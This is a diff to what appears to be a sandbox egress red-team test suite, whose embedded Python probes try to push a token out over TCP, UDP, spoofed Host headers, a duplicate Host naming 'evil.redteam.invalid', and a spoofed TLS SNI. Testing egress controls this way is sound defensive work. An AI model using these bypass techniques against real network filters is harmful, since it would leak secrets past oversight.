@@ -16,15 +16,18 @@ def t(k, f):
         r[k] = "ok" if v is None or v else "refused: empty"
     except Exception as e:
         r[k] = "refused: " + type(e).__name__ + " " + str(getattr(e, "errno", "") or "")
-def tcp(host, port, payload, fam=socket.AF_INET):
+SINK = b"moat-redteam-sink"
+def tcp(host, port, payload, fam=socket.AF_INET, want=None):
     s = socket.socket(fam, socket.SOCK_STREAM)
     s.settimeout(1.5)
     try:
         s.connect((host, port))
         s.sendall(payload)
-        d = s.recv(64)
+        d = s.recv(256)
         if not d:
             raise ConnectionError("closed without an answer")
+        if want is not None and want not in d:
+            raise ConnectionError("answered, not by the sink: %r" % d[:40])
         return True
     finally:
         s.close()
@@ -129,10 +132,10 @@ print(json.dumps(r))
 			Threat: "§3 network egress", Sandbox: "main", Check: checkSinks, Script: `
 tok = b"{{TOKEN}}"
 for h in ("127.0.0.1", "198.18.0.1", "198.51.100.7"):
-    t("tcp %s:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok))
+    t("tcp %s:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok, want=SINK))
     t("udp %s:{{UDP}}" % h, lambda: udp(h, {{UDP}}, tok))
 for h in ("::1", "2001:db8::7", "::ffff:127.0.0.1"):
-    t("tcp [%s]:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok, socket.AF_INET6))
+    t("tcp [%s]:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok, socket.AF_INET6, want=SINK))
     t("udp [%s]:{{UDP}}" % h, lambda: udp(h, {{UDP}}, tok, socket.AF_INET6))
 def ping(h):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
@@ -173,11 +176,11 @@ print(json.dumps(r))
 import ssl
 tok = "{{TOKEN}}"
 def http(host, hdr):
-    return tcp(host, {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (tok, hdr)).encode())
-t("direct IP, Host: {{PIN}}", lambda: http("198.51.100.7", "{{PIN}}"))
-t("direct IP, Host: {{PIN}}:{{TCP}}", lambda: http("198.51.100.7", "{{PIN}}:{{TCP}}"))
-t("allowed name, Host: other", lambda: http("{{PIN}}", "evil.redteam.invalid"))
-t("allowed name, two Hosts", lambda: tcp("{{PIN}}", {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: evil.redteam.invalid\r\nHost: {{PIN}}\r\n\r\n" % tok).encode()))
+    return tcp(host, {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (tok, hdr)).encode(), want=SINK)
+t("direct IP, Host: {{PIN2}}", lambda: http("198.51.100.7", "{{PIN2}}"))
+t("direct IP, Host: {{PIN2}}:{{TCP}}", lambda: http("198.51.100.7", "{{PIN2}}:{{TCP}}"))
+t("allowed name, Host: other", lambda: http("{{PIN2}}", "evil.redteam.invalid"))
+t("allowed name, two Hosts", lambda: tcp("{{PIN2}}", {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: evil.redteam.invalid\r\nHost: {{PIN2}}\r\n\r\n" % tok).encode(), want=SINK))
 def tls(host, sni):
     ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     ctx.check_hostname = False
@@ -187,7 +190,7 @@ def tls(host, sni):
         ctx.wrap_socket(s, server_hostname=sni).sendall(tok.encode())
     finally:
         s.close()
-t("direct IP, SNI {{PIN}}", lambda: tls("198.51.100.7", "{{PIN}}"))
+t("direct IP, SNI {{PIN2}}", lambda: tls("198.51.100.7", "{{PIN2}}"))
 print(json.dumps(r))
 `},
 		{Name: "credential-leak", What: "a bound secret's value is nowhere inside: environments, files, and the answer of an upstream that echoes the injected request",
